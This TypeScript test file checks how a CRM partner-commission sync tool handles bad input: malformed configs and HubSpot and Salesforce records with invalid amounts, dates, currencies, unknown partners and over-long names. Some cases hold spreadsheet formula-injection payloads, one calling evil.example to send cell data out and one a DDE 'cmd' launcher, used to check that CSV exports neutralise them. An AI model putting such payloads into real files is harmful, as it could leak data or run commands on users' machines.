// The bad-input corpus: broken configs, and CRM records with missing, garbage or negative
// amounts, unknown currencies, impossible dates, unknown partners, duplicate registrations,
// 10,000-character names and formula text in names. Each case is checked explicitly: it must end
// in a named error (a config error naming its path, an alert code on the record, a warning naming
// it) or a rejected-record entry with the expected reason — or, for input that is odd but valid
// (long names, formula text), be processed with its results written and exported safely. Never a
// crash, never a silent drop.
//
// HubSpot records are put straight into the sandbox's store (as its seed does: HubSpot holds such
// values in text properties, imports and mapped fields); Salesforce records go through its REST
// API, so only what Salesforce itself can hold is tried (it refuses unknown currencies, impossible
// dates and 120+ character names before partnersync could see them).

import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { isHubspotPersonality, type HubspotPersonality } from '../../src/sandbox/hubspot/personality.ts';
import type { SyncResult } from '../../src/sync/run-sync.ts';
import { salesforceToken } from '../sandbox/helpers.ts';
import { cli, CREDENTIALS, ROOT, World, type StoreKind, type Suite } from './world.ts';

export interface CaseResult {
  name: string;
  outcome: string;
  passed: boolean;
}

const DAY = 86_400_000;
const iso = (ms: number): string => new Date(ms).toISOString();

type Expect =
  | { rejected: string }
  | { alert: string }
  | { warning: true }
  | { processed: (ctx: Checked) => Promise<string | null> | string | null };

interface RecordCase {
  name: string;
  /** Creates the record(s); answers the id to check (deal, or partner for partner cases). */
  inject: () => Promise<string> | string;
  expect: Expect;
  object?: 'deal' | 'partner';
}

interface Checked {
  id: string;
  world: World;
  result: SyncResult;
}

// ---- broken configs --------------------------------------------------------------------------

interface ConfigCase {
  name: string;
  /** The file's text (null: no file at all). */
  text: string | null;
  command: 'config validate' | 'sync';
  env?: Record<string, string | undefined>;
  /** What the message must name. */
  names: RegExp;
  exit: number;
}

function configCases(program: string, crmOk: string): ConfigCase[] {
  const tiers = program.replace(/minWonDeals: 5,/, 'minWonDeals: 50,');
  return [
    {
      name: 'YAML syntax error',
      text: `${program}\ncrm: { provider: hubspot\n`,
      command: 'config validate',
      names: /YAML syntax/,
      exit: 2,
    },
    { name: 'empty file', text: '', command: 'config validate', names: /program/, exit: 2 },
    { name: 'no program section', text: crmOk, command: 'config validate', names: /program/, exit: 2 },
    {
      name: 'unknown top-level key',
      text: `${program}\n${crmOk}programme: {}\n`,
      command: 'config validate',
      names: /programme/,
      exit: 2,
    },
    {
      name: 'money with a thousands separator',
      text: program.replace(/monthlyFee: "500"/, 'monthlyFee: "5,000"'),
      command: 'config validate',
      names: /monthlyFee/,
      exit: 2,
    },
    {
      name: 'negative rate',
      text: program.replace(/rateBps: 2000/, 'rateBps: -2000'),
      command: 'config validate',
      names: /rateBps/,
      exit: 2,
    },
    { name: 'tiers out of order', text: tiers, command: 'config validate', names: /tiers/, exit: 2 },
    {
      name: 'recipe with an unknown plan',
      text: program.replace(/plan: revenue-share-12m/, 'plan: no-such-plan'),
      command: 'config validate',
      names: /no-such-plan|plan/,
      exit: 2,
    },
    {
      name: 'negative exchange rate',
      text: program.replace(/EUR: "1\.08"/, 'EUR: "-1.08"'),
      command: 'config validate',
      names: /EUR/,
      exit: 2,
    },
    {
      name: 'unknown time zone',
      text: program.replace(/timezone: America\/New_York/, 'timezone: Mars/Olympus'),
      command: 'config validate',
      names: /timezone/,
      exit: 2,
    },
    {
      name: 'unknown CRM provider',
      text: `${program}\ncrm: { provider: pipedrive }\n`,
      command: 'sync',
      names: /provider/,
      exit: 2,
    },
    {
      name: 'mapping to an impossible property name',
      text: `${program}\n${crmOk.replace('provider: hubspot', 'provider: hubspot\n  mappings: { "deal.recipe": { field: "Bad Name!" } }')}`,
      command: 'sync',
      names: /Bad Name!|mappings/,
      exit: 2,
    },
    {
      name: 'no HubSpot token in the environment',
      text: `${program}\n${crmOk}`,
      command: 'sync',
      env: {},
      names: /HUBSPOT_ACCESS_TOKEN/,
      exit: 2,
    },
    {
      name: 'store URL of an unknown database',
      text: `${program}\n${crmOk}store: { url: "mysql://db/partnersync" }\n`,
      command: 'sync',
      names: /store|mysql|sqlite:|postgres/,
      exit: 2,
    },
    {
      name: 'config file missing',
      text: null,
      command: 'sync',
      names: /partnersync-missing\.yaml|not found|no such/i,
      exit: 2,
    },
  ];
}

export async function configCorpus(dir: string): Promise<CaseResult[]> {
  const program =
    (await import('node:fs')).readFileSync(path.join(ROOT, 'config/examples/demo.yaml'), 'utf8').split('\ncrm:')[0] ??
    '';
  const crmOk = 'crm:\n  provider: hubspot\n  hubspot: { basePath: "http://127.0.0.1:9" }\n';
  const results: CaseResult[] = [];
  for (const [i, c] of configCases(program, crmOk).entries()) {
    const file = path.join(dir, c.text === null ? 'partnersync-missing.yaml' : `bad-config-${i}.yaml`);
    if (c.text !== null) writeFileSync(file, c.text);
    const args = [...c.command.split(' '), '--config', file];
    let got: { code: number; out: string; err: string };
    try {
      got = await cli(args, c.env ?? CREDENTIALS);
    } catch (err) {
      results.push({
        name: `config: ${c.name}`,
        outcome: `crashed: ${err instanceof Error ? (err.stack ?? err.message) : String(err)}`,
        passed: false,
      });
      continue;
    }
    const message = got.err.trim().split('\n').slice(0, 2).join(' / ');
    const stack =
      /\n\s+at /.test(got.err) || /TypeError|ReferenceError|undefined is not|Cannot read propert/.test(got.err);
    const passed = got.code === c.exit && c.names.test(got.err) && !stack;
    results.push({ name: `config: ${c.name}`, outcome: `exit ${got.code}: ${message.slice(0, 200)}`, passed });
  }
  return results;
}

// ---- CRM records -----------------------------------------------------------------------------

async function evaluate(c: RecordCase, id: string, world: World, result: SyncResult): Promise<CaseResult> {
  const rejected = result.report.snapshot.rejected.find((r) => r.dealId === id);
  const cache = await world.store.loadCache(world.account);
  const present =
    c.object === 'partner' ? cache.partners.some((p) => p.id === id) : cache.deals.some((d) => d.id === id);
  const episodes = await world.store.episodes(world.account, { openOnly: true });
  const e = c.expect;
  let passed: boolean;
  let outcome: string;
  if ('rejected' in e) {
    passed = rejected?.reason === e.rejected;
    outcome =
      rejected === undefined
        ? present
          ? 'processed, not rejected'
          : 'silently dropped'
        : `rejected ${rejected.reason}`;
  } else if ('alert' in e) {
    const alert = episodes.find((a) => a.code === e.alert && (a.dealId === id || a.partnerId === id));
    passed = alert !== undefined && present;
    outcome =
      alert === undefined
        ? `no ${e.alert} alert (${rejected === undefined ? (present ? 'processed' : 'silently dropped') : `rejected ${rejected.reason}`})`
        : `alert ${alert.code}: ${alert.message.slice(0, 120)}`;
  } else if ('warning' in e) {
    const warning = result.report.snapshot.warnings.find((w) => w.includes(id));
    passed = warning !== undefined && present;
    outcome =
      warning === undefined
        ? `no warning naming it (${present ? 'processed' : 'silently dropped'})`
        : `warning: ${warning.slice(0, 140)}`;
  } else {
    const problem =
      present && rejected === undefined
        ? await e.processed({ id, world, result })
        : present
          ? `rejected ${rejected?.reason ?? ''}`
          : 'silently dropped';
    passed = problem === null;
    outcome = problem ?? 'processed; results written and exported safely';
  }
  return { name: c.name, outcome, passed };
}

function hubspotOf(world: World): HubspotPersonality {
  const p = world.sandbox.state.personality;
  if (!isHubspotPersonality(p)) throw new Error('not a HubSpot sandbox');
  return p;
}

/** The written value of a deal property in the sandbox. */
function hubspotDealProp(world: World, id: string, name: string): string | undefined {
  return hubspotOf(world).state.tables.deals.get(id)?.props[name];
}

async function exportLine(world: World, dealId: string): Promise<string | null> {
  const entries = (await world.store.ledgerEntries(world.account, {})).filter((e) => e.dealId === dealId);
  const period = entries[0]?.period;
  if (period === undefined) return null;
  const got = await cli([
    'export',
    'commissions',
    '--period',
    period,
    '--format',
    'csv',
    '--config',
    world.configFile,
    '--account',
    world.account,
  ]);
  return got.out.split('\n').find((l) => l.includes(dealId)) ?? null;
}

function hubspotCases(world: World, asOf: number): RecordCase[] {
  const { state } = hubspotOf(world);
  const companies = state.tables.companies.all();
  const partners = companies.filter((c) => c.props['type'] === 'PARTNER').map((c) => c.id);
  const customers = companies.filter((c) => c.props['type'] !== 'PARTNER').map((c) => c.id);
  const owner = state.owners[0]?.id ?? '';
  const [p1 = '', p2 = ''] = partners;
  let n = 0;
  const deal = (
    label: string,
    props: Record<string, string | null>,
    customer: string | null = customers[n % customers.length] ?? null,
  ): string => {
    n += 1;
    const values: Record<string, string> = {};
    const base: Record<string, string | null> = {
      dealname: `Bad input ${label}`,
      amount: '1000',
      deal_currency_code: 'USD',
      dealstage: 'closedwon',
      pipeline: 'default',
      closedate: iso(asOf - 10 * DAY),
      createdate: iso(asOf - 40 * DAY),
      hubspot_owner_id: owner,
      partner_source: p1,
      partner_recipe: 'referral',
      ...props,
    };
    for (const [k, v] of Object.entries(base)) if (v !== null) values[k] = v;
    // Created before the run's as-of instant (HubSpot's createdate is the record's creation
    // time), modified now so the incremental read sees it.
    const record = state.newRecord('deals', values, Date.parse(values['createdate'] ?? iso(asOf - 40 * DAY)), 'IMPORT');
    record.updatedAt = Date.now();
    if (customer !== null) state.associations.add('deals', record.id, 'companies', customer, [341, 5]);
    return record.id;
  };
  const partner = (label: string, props: Record<string, string>): string => {
    const record = state.newRecord(
      'companies',
      {
        name: `Bad partner ${label}`,
        type: 'PARTNER',
        partner_recipe: 'referral',
        hubspot_owner_id: owner,
        partner_onboarded_at: iso(asOf - 200 * DAY),
        ...props,
      },
      asOf - 300 * DAY,
      'IMPORT',
    );
    record.updatedAt = Date.now();
    return record.id;
  };
  const unknown = '99999999999';
  const longName = 'N'.repeat(10_000);
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")';
  const sharedCustomer = customers[0] ?? null;
  let longPartner = '';
  let formulaPartner = '';
  return [
    {
      name: 'amount missing',
      inject: () => deal('amount missing', { amount: null }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'amount garbage ("n/a")',
      inject: () => deal('amount garbage', { amount: 'n/a' }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'amount with a thousands separator ("12,500.00")',
      inject: () => deal('amount separators', { amount: '12,500.00' }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'amount in exponent notation ("1e5")',
      inject: () => deal('amount exponent', { amount: '1e5' }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'negative amount',
      inject: () => deal('amount negative', { amount: '-500' }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'unknown currency ("XYZ")',
      inject: () => deal('currency unknown', { deal_currency_code: 'XYZ' }),
      expect: { rejected: 'CURRENCY_UNKNOWN' },
    },
    {
      name: 'impossible close date (2026-02-31)',
      inject: () => deal('close date impossible', { closedate: '2026-02-31' }),
      expect: { rejected: 'TIMESTAMP_INVALID' },
    },
    // A malformed registration drops the registration (not the deal), with a warning naming the deal.
    {
      name: 'garbage registration date ("last week")',
      inject: () =>
        deal('registration date garbage', {
          dealstage: 'appointmentscheduled',
          closedate: null,
          deal_registration_partner: p1,
          deal_registration_status: 'submitted',
          deal_registration_submitted_at: 'last week',
        }),
      expect: { warning: true },
    },
    {
      name: 'won without a close date',
      inject: () => deal('no close date', { closedate: null }),
      expect: { rejected: 'CLOSE_DATE_MISSING' },
    },
    {
      name: 'won, closing next year',
      inject: () => deal('closes in the future', { closedate: iso(asOf + 400 * DAY) }),
      expect: { rejected: 'FUTURE_TIMESTAMP' },
    },
    {
      name: 'unknown stage id',
      inject: () => deal('stage unknown', { dealstage: 'no-such-stage' }),
      expect: { rejected: 'STAGE_INVALID' },
    },
    {
      name: 'garbage registration status ("maybe")',
      inject: () =>
        deal('registration status garbage', {
          dealstage: 'appointmentscheduled',
          closedate: null,
          deal_registration_partner: p1,
          deal_registration_status: 'maybe',
          deal_registration_submitted_at: iso(asOf - 5 * DAY),
        }),
      expect: { warning: true },
    },
    {
      name: 'unknown sourcing partner',
      inject: () => deal('source unknown', { partner_source: unknown }),
      expect: { alert: 'UNKNOWN_PARTNER' },
    },
    {
      name: 'unknown influencer',
      inject: () => deal('influencer unknown', { partner_influencers: unknown }),
      expect: { alert: 'UNKNOWN_PARTNER' },
    },
    {
      name: 'unknown registering partner',
      inject: () =>
        deal('registration partner unknown', {
          dealstage: 'appointmentscheduled',
          closedate: null,
          partner_source: null,
          deal_registration_partner: unknown,
          deal_registration_status: 'submitted',
          deal_registration_submitted_at: iso(asOf - 1 * DAY),
        }),
      expect: { alert: 'UNKNOWN_PARTNER' },
    },
    {
      name: "duplicate registrations (two partners register one customer's open deals)",
      inject: () => {
        deal(
          'registration twin A',
          {
            dealstage: 'appointmentscheduled',
            closedate: null,
            partner_source: null,
            deal_registration_partner: p2,
            deal_registration_status: 'submitted',
            deal_registration_submitted_at: iso(asOf - 2 * DAY),
          },
          sharedCustomer,
        );
        return deal(
          'registration twin B',
          {
            dealstage: 'appointmentscheduled',
            closedate: null,
            partner_source: null,
            deal_registration_partner: p1,
            deal_registration_status: 'approved',
            deal_registration_submitted_at: iso(asOf - 2 * DAY),
            deal_registration_expires_at: iso(asOf + 60 * DAY),
          },
          sharedCustomer,
        );
      },
      expect: { alert: 'REGISTRATION_CONFLICT' },
    },
    {
      name: 'partner with garbage ratings and onboarding date',
      object: 'partner',
      inject: () =>
        partner('garbage ratings', {
          partner_rating_trust: '7',
          partner_rating_ease: 'abc',
          partner_onboarded_at: 'soon',
        }),
      expect: { warning: true },
    },
    {
      name: '10,000-character deal name',
      inject: () => deal('long name', { dealname: longName, amount: '2000' }),
      expect: {
        processed: async ({ id, world: w }) => {
          const entry = (await w.store.ledgerEntries(w.account, {})).find((e) => e.dealId === id);
          if (entry?.dealName?.length !== 10_000)
            return `ledger entry ${entry === undefined ? 'missing' : `has a ${entry.dealName?.length ?? 0}-character name`}`;
          return hubspotDealProp(w, id, 'partner_commission_amount') === undefined
            ? 'commission not written back'
            : null;
        },
      },
    },
    {
      name: '10,000-character partner name',
      inject: () => {
        longPartner = partner('long', { name: 'P'.repeat(10_000) });
        return deal('sourced by the long-named partner', { partner_source: longPartner, amount: '3000' });
      },
      expect: {
        processed: ({ id, world: w }) => {
          const summary = hubspotDealProp(w, id, 'partner_attribution_summary') ?? '';
          return summary.includes('P'.repeat(10_000))
            ? null
            : `attribution summary ${summary === '' ? 'not written' : `is ${summary.length} characters without the full name`}`;
        },
      },
    },
    {
      name: 'formula text in deal and partner names',
      inject: () => {
        formulaPartner = partner('formula', { name: "@SUM(1+1)*cmd|' /C calc'!A0" });
        return deal('formula', { dealname: formula, partner_source: formulaPartner, amount: '4000' });
      },
      expect: {
        processed: async ({ id, world: w }) => {
          const line = await exportLine(w, id);
          if (line === null) return 'no ledger entry / export line for the deal';
          if (line.includes(',=HYPERLINK') || line.includes('"=HYPERLINK'))
            return `formula cell not neutralised: ${line.slice(0, 200)}`;
          if (!line.includes("'=HYPERLINK")) return `deal name missing from the export line: ${line.slice(0, 200)}`;
          return line.includes("'@SUM") ? null : `partner name not neutralised: ${line.slice(0, 200)}`;
        },
      },
    },
    {
      name: 'huge amount (30 digits)',
      inject: () => deal('huge amount', { amount: '123456789012345678901234567890.99', deal_currency_code: 'USD' }),
      expect: {
        processed: async ({ id, world: w }) => {
          const entries = (await w.store.ledgerEntries(w.account, {})).filter((e) => e.dealId === id);
          return entries.length > 0 && hubspotDealProp(w, id, 'partner_commission_amount') !== undefined
            ? null
            : 'no commission posted or written';
        },
      },
    },
  ];
}

/** Salesforce: records created through its REST API (what Salesforce itself accepts). */
function salesforceCases(world: World, asOf: number): RecordCase[] {
  const api = `${world.sandbox.url}/services/data/v66.0`;
  // The sandbox, like Salesforce, takes only tokens it issued: one fresh token per request.
  const headers = async (): Promise<Record<string, string>> => ({
    authorization: `Bearer ${await salesforceToken(world.sandbox.url)}`,
    'content-type': 'application/json',
  });
  const dump = world.sandbox.state.dump() as { salesforce: { Account: { Id: string; Type: string | null }[] } };
  const partners = dump.salesforce.Account.filter((a) => a.Type === 'Partner').map((a) => a.Id);
  const customers = dump.salesforce.Account.filter((a) => a.Type !== 'Partner').map((a) => a.Id);
  const [p1 = '', p2 = ''] = partners;
  const day = (ms: number): string => iso(ms).slice(0, 10);
  const create = async (object: string, body: Record<string, unknown>): Promise<string> => {
    const res = await fetch(`${api}/sobjects/${object}`, {
      method: 'POST',
      headers: await headers(),
      body: JSON.stringify(body),
    });
    const text = await res.text();
    if (res.status !== 201) throw new Error(`Salesforce refused the ${object}: ${text.slice(0, 300)}`);
    return (JSON.parse(text) as { id: string }).id;
  };
  let n = 0;
  const opp = (label: string, values: Record<string, unknown>, customer?: string): Promise<string> => {
    n += 1;
    return create('Opportunity', {
      Name: `Bad input ${label}`,
      StageName: 'Closed Won',
      CloseDate: day(asOf - 10 * DAY),
      Amount: 1000,
      CurrencyIsoCode: 'USD',
      AccountId: customer ?? customers[n % customers.length],
      Partner_Source__c: p1,
      Partner_Recipe__c: 'referral',
      ...values,
    });
  };
  const shared = customers[0];
  const formula = '=HYPERLINK("http://evil.example","Refund")';
  return [
    {
      name: 'Salesforce: amount missing on a won deal',
      inject: () => opp('amount missing', { Amount: null }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'Salesforce: negative amount',
      inject: () => opp('amount negative', { Amount: -500 }),
      expect: { rejected: 'AMOUNT_INVALID' },
    },
    {
      name: 'Salesforce: a customer account as sourcing partner',
      inject: () => opp('source not a partner', { Partner_Source__c: customers[1] }),
      expect: { alert: 'UNKNOWN_PARTNER' },
    },
    {
      name: 'Salesforce: duplicate registrations on one customer',
      inject: async () => {
        await opp(
          'registration twin A',
          {
            StageName: 'Prospecting',
            CloseDate: day(asOf + 30 * DAY),
            Partner_Source__c: null,
            Deal_Reg_Partner__c: p2,
            Deal_Reg_Status__c: 'submitted',
            Deal_Reg_Submitted_At__c: iso(asOf - 2 * DAY),
          },
          shared,
        );
        return opp(
          'registration twin B',
          {
            StageName: 'Prospecting',
            CloseDate: day(asOf + 30 * DAY),
            Partner_Source__c: null,
            Deal_Reg_Partner__c: p1,
            Deal_Reg_Status__c: 'submitted',
            Deal_Reg_Submitted_At__c: iso(asOf - 2 * DAY),
          },
          shared,
        );
      },
      expect: { alert: 'REGISTRATION_CONFLICT' },
    },
    {
      name: "Salesforce: formula text in an opportunity name (120 characters: Salesforce's longest)",
      inject: () => opp('formula', { Name: `${formula} ${'x'.repeat(120 - formula.length - 1)}`, Amount: 4000 }),
      expect: {
        processed: async ({ id, world: w }) => {
          const line = await exportLine(w, id);
          if (line === null) return 'no ledger entry / export line for the deal';
          return line.includes("'=HYPERLINK") ? null : `formula cell not neutralised: ${line.slice(0, 200)}`;
        },
      },
    },
  ];
}

/**
 * Seeds a world, runs a first sync, adds every case's records, runs one more sync and checks
 * each case. A run that fails outright is a named error for the whole batch (reported as such).
 */
export async function recordCorpus(
  suite: Suite,
  store: StoreKind,
  crm: 'hubspot' | 'salesforce',
): Promise<CaseResult[]> {
  const world = await World.create(suite, { crm, store, partners: 8, deals: 60 });
  try {
    await world.provision();
    const first = await world.syncHere();
    if (first.status !== 'succeeded') throw new Error(`first ${crm} sync ${first.status}: ${first.report.error ?? ''}`);
    const cases = crm === 'hubspot' ? hubspotCases(world, suite.asOf) : salesforceCases(world, suite.asOf);
    const ids: string[] = [];
    for (const c of cases) ids.push(await c.inject());
    const result = await world.syncHere();
    if (result.status !== 'succeeded') {
      return cases.map((c) => ({
        name: c.name,
        outcome: `the sync ${result.status}: ${result.report.error ?? ''}`,
        passed: false,
      }));
    }
    const out: CaseResult[] = [];
    for (const [i, c] of cases.entries()) out.push(await evaluate(c, ids[i] ?? '', world, result));
    const failures = result.report.writeBack.failures;
    if (failures.length > 0)
      out.push({
        name: `${crm}: write-back of the corpus`,
        outcome: `write failures: ${JSON.stringify(failures.slice(0, 3))}`,
        passed: false,
      });
    return out;
  } finally {
    await world.close();
  }
}

/**
 * A HubSpot deal without a currency takes the account's company currency, which the adapter asks
 * HubSpot's account-info API for. Alone in its world: if that fails, the run fails as a whole.
 */
export async function missingCurrencyCase(suite: Suite, store: StoreKind): Promise<CaseResult> {
  const world = await World.create(suite, { crm: 'hubspot', store, partners: 6, deals: 30 });
  try {
    await world.provision();
    const first = await world.syncHere();
    if (first.status !== 'succeeded') throw new Error(`first sync ${first.status}`);
    const { state } = hubspotOf(world);
    const partnerId = state.tables.companies.all().find((c) => c.props['type'] === 'PARTNER')?.id ?? '';
    const record = state.newRecord(
      'deals',
      {
        dealname: 'Bad input currency missing',
        amount: '1000',
        dealstage: 'closedwon',
        pipeline: 'default',
        closedate: iso(suite.asOf - 10 * DAY),
        partner_source: partnerId,
      },
      suite.asOf - 40 * DAY,
      'IMPORT',
    );
    record.updatedAt = Date.now();
    const result = await world.syncHere();
    const rejected = result.report.snapshot.rejected.find((r) => r.dealId === record.id);
    const cache = await world.store.loadCache(world.account);
    const kept = cache.deals.find((d) => d.id === record.id);
    if (result.status === 'failed') {
      const named = /\w+Error|answered \d{3}|HubSpot|account-info/.test(result.report.error ?? '');
      return {
        name: 'currency missing (HubSpot: the company currency applies)',
        outcome: `the run failed with a named error: ${(result.report.error ?? '').slice(0, 200)}`,
        passed: named,
      };
    }
    if (rejected !== undefined)
      return {
        name: 'currency missing (HubSpot: the company currency applies)',
        outcome: `rejected ${rejected.reason}`,
        passed: true,
      };
    return {
      name: 'currency missing (HubSpot: the company currency applies)',
      outcome: kept === undefined ? 'silently dropped' : `processed in ${kept.currency ?? 'no currency'}`,
      passed: kept !== undefined && kept.currency !== null,
    };
  } finally {
    await world.close();
  }
}
